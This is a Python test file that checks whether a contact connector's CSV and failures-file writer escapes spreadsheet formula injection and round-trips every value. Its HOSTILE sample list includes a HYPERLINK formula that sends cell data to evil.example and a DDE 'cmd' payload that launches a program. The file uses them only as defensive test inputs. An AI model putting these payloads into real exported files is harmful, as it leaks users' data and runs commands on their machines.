"""Promise 18: no cell of a file that is written here can run in a spreadsheet, and every value comes back from it."""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connector.contact import Contact
from connector.file_imports import crisp_ready
from connector.file_imports.failures import annotated
from connector.files.options import ReadOptions
from connector.files.reading import read_table
from connector.files.safe import bare, guarded, guarded_but_numbers
from connector.files.table import Dialect, Table
from connector.files.writing import written
from connector.intake.tables import payloads
from connector.manifest import shipped
from connector.record import Record

# What OWASP names (CSV injection), and their wide forms, which spreadsheets of East Asia take for the same.
MARKS = tuple("=+-@\t\r\n＝＋－＠")
NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
HOSTILE = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "'=1+1", "''=1+1", "'''@x", "'", "''"),
    *('=HYPERLINK("http://evil.example/?"&A1;"x")', "=cmd|' /C calc'!A0", "+33142685377", "-5", "-5.5", "+0", "-"),
    *("'tis", "O'Hara", "", " =1", "a=1", "ada@example.com", "7,50", "2024-06-01"),
)
each_hostile = pytest.mark.parametrize("cell", HOSTILE, ids=repr)
cells = st.text(st.sampled_from("=+-@\t\r\n'\";,|aé1＝")) | st.sampled_from(HOSTILE)
COLUMNS = ("email", "data.a", "data.b")
MAPPING = tuple((name, (name,)) for name in COLUMNS)


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take this cell for a formula."""
    return cell.startswith(MARKS)


@each_hostile
def test_a_guarded_cell_does_not_run(cell: str) -> None:
    assert not runs(guarded(cell))


@given(cells)
def test_every_cell_comes_back_from_being_guarded(cell: str) -> None:
    assert not runs(guarded(cell))
    assert bare(guarded(cell)) == cell


@given(cells)
def test_a_cell_that_comes_in_guarded_or_not_is_written_alike_ever_after(cell: str) -> None:
    once = guarded(bare(cell))
    assert guarded(bare(once)) == once
    assert bare(once) == bare(cell)


@given(cells)
def test_where_numbers_stay_as_they_are_nothing_else_runs(cell: str) -> None:
    made = guarded_but_numbers(cell)
    assert not runs(made) or NUMBER.fullmatch(made)
    assert bare(made) == cell


@pytest.mark.parametrize("cell", ["+33142685377", "-5", "-5.5", "+7,25", "0"])
def test_phones_and_negative_numbers_are_not_marked_for_a_program(cell: str) -> None:
    assert guarded_but_numbers(cell) == cell


def records(table: Table) -> list[Record]:
    return [record for payload in payloads(table, MAPPING)() for record in payload.records]


def failures_of(table: Table) -> Iterable[Sequence[str]]:
    """All rows as a failures file has them."""
    every = ((row.number, ("a_code", "a field", "=a message")) for row in table.rows())
    return annotated(table, {}, every)


def table_of(folder: str, content: bytes, separator: str) -> Table:
    path = Path(folder) / "file.csv"
    path.write_bytes(content)
    return read_table(path, ReadOptions(separator=separator))


DIALECTS = [
    Dialect(","),
    Dialect(";", quote_all=True, line_end="\n"),
    Dialect("\t", encoding="utf-16-le", bom=True),
]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=6), st.sampled_from(DIALECTS))
def test_a_failures_file_is_safe_and_says_the_same(rows: list[tuple[str, str]], dialect: Dialect) -> None:
    """Whatever stood in the file, in whatever way it is written."""
    content = b"".join(written([COLUMNS, *((f"p{n}@x.org", *row) for n, row in enumerate(rows))], dialect))
    with TemporaryDirectory() as folder, table_of(folder, content, dialect.separator) as table:
        before = records(table)
        again = b"".join(written(failures_of(table), table.dialect or dialect))
        text = again.decode("utf-16" if dialect.bom else "utf-8")
        parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.separator))
        assert [cell for row in parsed for cell in row[:-1] if runs(cell)] == []
        with table_of(folder, again, dialect.separator) as corrected:
            assert [record.values for record in records(corrected)] == [record.values for record in before]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=6))
def test_a_file_for_crisp_is_safe_and_says_the_same(rows: list[tuple[str, str]]) -> None:
    """Its reader is a program, for which numbers stay what they are; a spreadsheet takes them for numbers."""
    contacts = [
        Contact({"email": f"p{number}@x.org", "phone": "+33142685377"}, (), {"a": a, "b": b})
        for number, (a, b) in enumerate(rows)
    ]
    fields = crisp_ready.columns_of(shipped().fields)
    content = b"".join(written(crisp_ready.rows(lambda: iter(contacts), fields)))
    parsed = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert [cell for row in parsed for cell in row if runs(cell) and not NUMBER.fullmatch(cell)] == []
    assert [row[1] for row in parsed[1:]] == ["+33142685377"] * len(rows)
    with TemporaryDirectory() as folder, table_of(folder, content, ",") as table:
        assert [dict(record.values) for record in records(table)] == [
            {"email": each.email, "data.a": each.data["a"], "data.b": each.data["b"]} for each in contacts
        ]


NAMES = ("=1+1", "+x", "@who", "-", "\ttab", "'=1+1")


@pytest.mark.parametrize("name", NAMES, ids=repr)
def test_the_name_of_a_column_does_not_run_either(name: str, tmp_path: Path) -> None:
    content = b"".join(written([["email", name], ["nobody", "x"]]))
    with table_of(str(tmp_path), content, ",") as table:
        first = next(iter(failures_of(table)))
    assert [cell for cell in first if runs(cell)] == []


def test_segments_do_not_run(tmp_path: Path) -> None:
    contacts = [Contact({"email": "a@x.org"}, ("=1+1", "vip")), Contact({"email": "b@x.org"}, ("@beta",))]
    rows = list(crisp_ready.rows(lambda: iter(contacts), crisp_ready.columns_of(shipped().fields)))
    assert rows[1:] == [["a@x.org", "'=1+1|vip"], ["b@x.org", "'@beta"]]
